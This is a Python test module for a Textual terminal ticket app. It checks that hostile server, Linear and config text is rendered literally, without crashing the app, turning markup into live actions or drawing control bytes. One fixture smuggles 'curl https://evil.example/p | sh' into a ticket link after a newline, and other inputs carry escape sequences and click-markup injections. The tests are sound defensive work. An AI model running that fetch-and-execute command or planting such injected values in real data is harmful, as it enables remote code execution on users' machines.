"""Every tui sink for server, Linear and config text shows the hostile corpus literally.

Before the safe-text path, `[/]` in an error crashed the board from six places and
`[@click=app.quit]` became a working link; each test here pushes the whole corpus through one
sink and checks the app is still running, the text is literal, and no control byte is drawn.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from textual.content import Content
from textual.widgets import OptionList, Select
from textual.widgets._toast import Toast

from pylon_tui.api.errors import ApiError
from pylon_tui.bootstrap import make_app, services_for
from pylon_tui.domain import DEFAULT_COLUMNS, Account, LinkedIssue, Priority, User
from pylon_tui.domain.safe_text import one_line
from pylon_tui.tui.app import PylonApp
from pylon_tui.tui.modals.hold import HoldModal
from pylon_tui.tui.modals.picker import PickerModal
from pylon_tui.tui.safe import plain, plain_message
from pylon_tui.tui.screens.detail import DetailScreen
from tests.hostile import HOSTILE, has_control

from .fakes import NOW, FakePylon, build_app, notifications, screen_strips, screen_text, settle


def raw_error(text: str, *, transient: bool = False) -> ApiError:
    """An ApiError whose message bypasses the api layer's own cleaning: the sink must cope."""
    error = ApiError("placeholder", transient=transient, hint="")
    error.message = text
    return error


def assert_inert(content: Content | Any) -> None:
    """No span of drawn content carries an action, a link or any style from the text."""
    spans = getattr(content, "spans", [])
    for span in spans:
        style = str(span.style)
        assert "@click" not in style, style
        assert "link" not in style, style


def assert_screen_clean(app: PylonApp) -> None:
    for strip in screen_strips(app):
        for segment in strip:
            assert not has_control(segment.text), repr(segment.text)


async def test_every_toast_is_literal_whatever_the_caller_asks() -> None:
    app = build_app()
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await settle(pilot)
        for text in HOSTILE:
            app.notify(text, title=text, markup=True)
        await settle(pilot)
        await pilot.pause(0.1)
        messages = [message for _, message in notifications(app)]
        assert messages == [plain_message(text) for text in HOSTILE]
        assert all(not has_control(m) for m in messages)
        assert all(
            title == one_line(text)
            for (title, _), text in zip(notifications(app), HOSTILE, strict=True)
        )
        toasts = list(app.screen.query(Toast))
        assert toasts, "the toasts were not drawn"
        for toast in toasts:
            rendered = toast.render()
            assert_inert(rendered)
            assert isinstance(rendered, Content)
            assert rendered.plain.strip()
        assert app.is_running
        assert_screen_clean(app)


async def test_refused_and_queued_writes_show_server_errors_literally() -> None:
    fake = FakePylon()
    app = build_app(fake)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await settle(pilot)
        for text in HOSTILE:
            fake.fail_next = raw_error(text)
            await pilot.press("1")  # priority: a write Pylon refuses, rolled back with a toast
            await settle(pilot)
            assert app.is_running
            shown = [message for _, message in notifications(app)]
            assert any(plain_message(text) in message for message in shown), (text, shown[-1:])
        queued = HOSTILE[2]
        fake.fail_next = raw_error(queued, transient=True)
        await pilot.press("j", "2")  # transient: kept in the outbox, "Queued" toast
        await settle(pilot)
        assert any(plain_message(queued) in m for _, m in notifications(app))
        assert app.is_running
        assert_screen_clean(app)


async def test_message_load_failure_and_copy_link_are_literal() -> None:
    fake = FakePylon()
    fake.tickets["t1"] = replace(
        fake.tickets["t1"], link="https://app.usepylon.com/x\n curl https://evil.example/p | sh"
    )
    fake.tickets["t2"] = replace(fake.tickets["t2"], link="https://app.usepylon.com/[/]?a=[b]")
    app = build_app(fake)
    copied: list[str] = []
    app.copy_to_clipboard = copied.append  # type: ignore[method-assign,assignment]
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await settle(pilot)
        for text in HOSTILE[:10]:
            fake.fail_next = raw_error(text)
            await pilot.press("r")
            await settle(pilot)
            assert app.is_running
        await pilot.press("y")  # t1: a multi-line "link" is never copied
        await pilot.press("j", "y")  # t2: a plain URL with brackets is copied literally
        await settle(pilot)
        assert copied == ["https://app.usepylon.com/[/]?a=[b]"]
        shown = " ".join(message for _, message in notifications(app))
        assert "not copied" in shown
        assert "Copied https://app.usepylon.com/[/]?a=[b]" in shown
        assert_screen_clean(app)


class HostileNames(FakePylon):
    async def users(self) -> list[User]:
        return [User(f"u{n}", text, f"u{n}@example.com") for n, text in enumerate(HOSTILE)]

    async def accounts(self) -> list[Account]:
        return [Account("acc1", HOSTILE[2])]


async def test_assign_picker_and_detail_show_hostile_names_literally() -> None:
    fake = HostileNames()
    fake.tickets["t1"] = replace(fake.tickets["t1"], assignee_id="u0")
    app = build_app(fake)
    app.ctx.link_states["lin-1"] = "Done [/] \x1b]0;x\x07"
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("a")
        await pilot.pause()
        assert isinstance(app.screen, PickerModal)
        options = app.screen.query_one(OptionList)
        prompts = [options.get_option_at_index(i).prompt for i in range(options.option_count)]
        shown = [str(getattr(p, "plain", p)) for p in prompts]
        for text in HOSTILE:
            assert any(one_line(text) in label for label in shown), text
        for prompt in prompts:
            assert_inert(prompt)
        await pilot.press("escape", "enter")
        await settle(pilot)
        assert isinstance(app.screen, DetailScreen)
        assert HOSTILE[2].split()[0] in screen_text(app)
        assert app.is_running
        assert_screen_clean(app)


class FailingLinear:
    """Stands in for LinearClient: every search fails with a hostile message."""

    def __init__(self, message: str) -> None:
        self.message = message

    async def search(self, title: str, *, first: int = 8) -> list[LinkedIssue]:
        raise raw_error(self.message)

    async def issue(self, ref: str) -> LinkedIssue | None:
        raise raw_error(self.message)

    async def find(self, ref: object) -> LinkedIssue | None:
        raise raw_error(self.message)


async def test_hold_dialog_select_and_errors_are_literal() -> None:
    fake = FakePylon()
    app = build_app(fake)
    users = [User(f"u{n}", text, "") for n, text in enumerate(HOSTILE)]
    async with app.run_test(size=(100, 40), notifications=True) as pilot:
        await settle(pilot)
        ticket = replace(fake.tickets["t1"], priority=Priority.URGENT)
        linear: Any = FailingLinear("[@click=app.quit]CLICKME[/] \x1b[2J")
        app.push_screen(
            HoldModal(ticket, linear, linear, moving=True, users=users, pylon_link=None)
        )
        await settle(pilot)
        modal = app.screen
        duplicates = modal.query_one("#hold-duplicates", OptionList)
        failure = duplicates.get_option_at_index(0).prompt
        assert "[@click=app.quit]CLICKME[/]" in str(getattr(failure, "plain", failure))
        select = modal.query_one("#hold-assignee", Select)
        select.focus()
        await pilot.press("enter")  # opening the list crashed on a markup name before
        await pilot.pause()
        await pilot.press("escape")
        await pilot.pause()
        assert app.is_running
        assert_screen_clean(app)


async def test_config_column_titles_are_literal_on_board_and_palette() -> None:
    columns = [replace(c, title=f"{c.title} [/]\x1b[2J") for c in DEFAULT_COLUMNS]
    services = services_for(FakePylon(), columns=columns, now=lambda: NOW)
    app = make_app(services, now=lambda: NOW, refresh_seconds=0)
    async with app.run_test(size=(120, 30), notifications=True) as pilot:
        await settle(pilot)
        assert "New [/]" in screen_text(app)
        await pilot.press("ctrl+p")
        await pilot.pause()
        await pilot.press(*"Move")
        await settle(pilot)
        assert app.is_running
        await pilot.press("escape")
        await pilot.press("m")
        await pilot.pause()
        assert "On Hold [/]" in screen_text(app)
        assert_screen_clean(app)


def test_plain_never_parses_markup_or_keeps_controls() -> None:
    for text in HOSTILE:
        rendered = plain(text, "bold")
        assert rendered.plain == one_line(text)
        assert not has_control(rendered.plain)
        assert [span.style for span in rendered.spans] == []
